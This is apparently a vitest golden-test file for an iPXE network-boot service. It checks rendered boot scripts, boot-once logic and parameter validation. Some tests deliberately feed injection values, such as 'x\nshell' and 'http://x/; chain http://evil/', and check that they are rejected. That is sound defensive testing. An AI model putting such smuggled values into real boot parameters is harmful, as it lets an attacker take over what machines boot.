// Golden scripts: every profile type for BIOS and UEFI, the chain script, the fallback menu and
// local boot. Regenerate after an intended change with UPDATE_GOLDEN=1 and review the diff.
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { BootProfile, BootProfileSpec } from '../api/v1alpha1/boot-profile.js';
import type { NodeBootAssignment } from '../api/v1alpha1/node-boot-assignment.js';
import { decideBoot, renderFor, type MachineFacts } from './decide.js';
import type { Firmware } from './identity.js';
import { buildChainScript, buildFallbackMenu, buildLocalBootScript } from './scripts.js';

const TESTDATA = join(import.meta.dirname, 'testdata');
const SERVER = 'http://192.0.2.1:8082';

function golden(name: string, actual: string): void {
  const file = join(TESTDATA, name);
  if (process.env.UPDATE_GOLDEN === '1' || !existsSync(file)) writeFileSync(file, actual);
  expect(actual).toBe(readFileSync(file, 'utf8'));
}

const profile = (name: string, spec: Partial<BootProfileSpec> & Pick<BootProfileSpec, 'type'>): BootProfile => ({
  apiVersion: 'bootplane.io/v1alpha1',
  kind: 'BootProfile',
  metadata: { name, namespace: 'lab' },
  spec: { firmware: ['bios', 'uefi'], public: false, unattended: false, localBoot: 'exit', ...spec },
});

const assignment = (spec: Partial<NodeBootAssignment['spec']> = {}, status?: NodeBootAssignment['status']): NodeBootAssignment => ({
  apiVersion: 'bootplane.io/v1alpha1',
  kind: 'NodeBootAssignment',
  metadata: { name: 'node-1', namespace: 'lab' },
  spec: { mac: '52:54:00:12:34:56', profileRef: { name: 'x' }, bootMode: 'Always', bootOnceEpoch: 0, state: 'Enabled', ...spec },
  status,
});

export const PROFILES: Record<string, BootProfile> = {
  'talos-controlplane': profile('talos-controlplane', {
    type: 'kernel',
    kernel: {
      kernel: { url: 'https://github.com/siderolabs/talos/releases/download/v1.8.3/vmlinuz-amd64' },
      initrds: [{ url: 'https://github.com/siderolabs/talos/releases/download/v1.8.3/initramfs-amd64.xz' }],
      cmdline: 'talos.platform=metal console=tty0 talos.config={{configUrl}}',
    },
    parameters: { configUrl: 'http://192.0.2.1/configs/controlplane.yaml' },
  }),
  'fcos-live': profile('fcos-live', {
    type: 'kernel',
    kernel: {
      kernel: { path: 'fcos/kernel', name: 'fcos-kernel' },
      initrds: [{ path: 'fcos/initramfs.img' }, { path: 'fcos/rootfs.img' }],
      cmdline: 'coreos.live.rootfs_url={{serverUrl}}/boot/assets/lab/fcos-live/rootfs.img ignition.firstboot ignition.platform.id=metal ignition.config.url={{ignitionUrl}}',
    },
  }),
  shell: profile('shell', { type: 'ipxeTemplate', ipxeTemplate: '#!ipxe\necho Hello {{greeting}} from {{hostname}}\nshell\n', parameters: { greeting: 'operator' } }),
  'rescue-iso': profile('rescue-iso', { type: 'httpIso', httpIso: { image: { url: 'https://example.org/isos/systemrescue-11.02-amd64.iso', sha256: 'a'.repeat(64) } } }),
  diskless: profile('diskless', { type: 'iscsiSanboot', iscsiSanboot: { portal: '192.0.2.1:3260', targetIQN: 'iqn.2024-01.io.bootplane:lab-golden', lun: 1, initiatorIQNTemplate: 'iqn.2024-01.io.bootplane:{{mac}}' } }),
};

const facts = (firmware: Firmware, extra: Partial<MachineFacts> = {}): MachineFacts => ({ mac: '52:54:00:12:34:56', firmware, serverUrl: SERVER, ...extra });

describe('profile scripts (golden)', () => {
  for (const [name, p] of Object.entries(PROFILES)) {
    for (const firmware of ['bios', 'uefi'] as const) {
      it(`${name} for ${firmware}`, () => {
        const extra = name === 'fcos-live' ? { ignitionUrl: `${SERVER}/ignition?mac=52:54:00:12:34:56&exp=1700000000&sig=abc` } : {};
        const answer = decideBoot(assignment({ hostname: 'node-1', profileRef: { name } }), p, facts(firmware, extra));
        if (answer.kind !== 'profile') throw new Error(`expected a script, got ${JSON.stringify(answer)}`);
        golden(`${name}.${firmware}.ipxe`, answer.script);
        expect(answer.scriptHash).toMatch(/^[0-9a-f]{64}$/);
      });
    }
  }

  it('overlays assignment parameters on profile defaults', () => {
    const answer = decideBoot(assignment({ parameters: { configUrl: 'http://192.0.2.1/configs/cp-1.yaml' } }), PROFILES['talos-controlplane'], facts('bios'));
    expect(answer.kind === 'profile' && answer.script).toContain('talos.config=http://192.0.2.1/configs/cp-1.yaml');
  });

  it('reports an injected parameter by name instead of rendering it', () => {
    const answer = decideBoot(assignment({ parameters: { configUrl: 'x\nshell' } }), PROFILES['talos-controlplane'], facts('bios'));
    expect(answer).toMatchObject({ kind: 'renderError', parameter: 'configUrl' });
  });

  it('reports a missing parameter by name', () => {
    const answer = decideBoot(assignment(), PROFILES['fcos-live'], facts('bios'));
    expect(answer).toMatchObject({ kind: 'renderError', parameter: 'ignitionUrl' });
  });
});

describe('who gets what', () => {
  it('gives unknown, disabled, profile-less and wrong-firmware machines the fallback', () => {
    expect(decideBoot(undefined, undefined, facts('bios'))).toEqual({ kind: 'fallback', reason: 'UnknownMachine' });
    expect(decideBoot(assignment({ state: 'Disabled' }), PROFILES.shell, facts('bios'))).toEqual({ kind: 'fallback', reason: 'Disabled' });
    expect(decideBoot(assignment(), undefined, facts('bios'))).toEqual({ kind: 'fallback', reason: 'ProfileNotFound' });
    const biosOnly = profile('old', { ...PROFILES.shell!.spec, firmware: ['bios'] });
    expect(decideBoot(assignment(), biosOnly, facts('uefi'))).toEqual({ kind: 'fallback', reason: 'FirmwareNotSupported' });
  });

  it('boots a boot-once machine once, then answers with the profile\'s local boot', () => {
    const once = assignment({ bootMode: 'Once', bootOnceEpoch: 2, hostname: 'node-1' });
    expect(decideBoot(once, PROFILES.shell, facts('bios'))).toMatchObject({ kind: 'profile', consumesBootOnce: true });
    expect(decideBoot(once, PROFILES.shell, facts('bios', { bootOnceUsedHere: true }))).toMatchObject({ kind: 'localBoot' });
    const used = assignment({ bootMode: 'Once', bootOnceEpoch: 2, hostname: 'node-1' }, { bootOnceConsumedEpoch: 2 });
    const sanboot = profile('s', { ...PROFILES.shell!.spec, localBoot: 'sanbootLocalDisk' });
    const notFound = profile('n', { ...PROFILES.shell!.spec, localBoot: 'notFound' });
    expect(decideBoot(used, notFound, facts('bios'))).toEqual({ kind: 'localBoot', script: undefined });
    const bios = decideBoot(used, sanboot, facts('bios'));
    expect(bios.kind === 'localBoot' && bios.script).toContain('sanboot --no-describe --drive 0x80');
    const rearmed = assignment({ bootMode: 'Once', bootOnceEpoch: 3, hostname: 'node-1' }, { bootOnceConsumedEpoch: 2 });
    expect(decideBoot(rearmed, PROFILES.shell, facts('bios')).kind).toBe('profile');
  });

  it('renders a profile with its defaults for the public route', () => {
    const answer = renderFor(PROFILES.shell!, undefined, { firmware: 'bios', serverUrl: SERVER });
    expect(answer).toMatchObject({ kind: 'renderError', parameter: 'hostname' });
    const talos = renderFor(PROFILES['talos-controlplane']!, undefined, { firmware: 'bios', serverUrl: SERVER });
    expect(talos.kind).toBe('profile');
  });
});

describe('kernel command lines', () => {
  const ubuntu = profile('ubuntu', {
    type: 'kernel',
    kernel: { kernel: { url: 'http://192.0.2.1/casper/vmlinuz' }, cmdline: 'ip=dhcp autoinstall ds=nocloud-net;s={{seedUrl}}' },
    parameters: { seedUrl: 'http://192.0.2.1/seed/' },
  });

  it('lets the profile author use ";" (Ubuntu autoinstall needs it) but not in parameter values', () => {
    const ok = renderFor(ubuntu, undefined, { firmware: 'bios', serverUrl: SERVER });
    expect(ok.kind === 'profile' && ok.script).toContain('ds=nocloud-net;s=http://192.0.2.1/seed/');
    const injected = renderFor(ubuntu, assignment({ parameters: { seedUrl: 'http://x/; chain http://evil/' } }), { firmware: 'bios', serverUrl: SERVER });
    expect(injected).toMatchObject({ kind: 'renderError', parameter: 'seedUrl' });
  });

  it('still refuses a command line that would break the script\'s structure', () => {
    const broken = profile('broken', { type: 'kernel', kernel: { kernel: { url: 'http://192.0.2.1/k' }, cmdline: 'quiet || shell' } });
    expect(renderFor(broken, undefined, { firmware: 'bios', serverUrl: SERVER })).toMatchObject({ kind: 'renderError', parameter: 'cmdline' });
  });
});

describe('fixed scripts (golden)', () => {
  it('chain', () => golden('chain.ipxe', buildChainScript(SERVER)));
  it('fallback menu', () => golden('fallback-menu.ipxe', buildFallbackMenu(SERVER, [{ namespace: 'lab', name: 'rescue' }, { namespace: 'lab', name: 'memtest' }])));
  for (const firmware of ['bios', 'uefi'] as const) {
    it(`local boot exit for ${firmware}`, () => golden(`local-exit.${firmware}.ipxe`, buildLocalBootScript('exit', firmware, 'bootplane: used')!));
    it(`local boot sanboot for ${firmware}`, () => golden(`local-sanboot.${firmware}.ipxe`, buildLocalBootScript('sanbootLocalDisk', firmware, 'bootplane: used')!));
  }
});
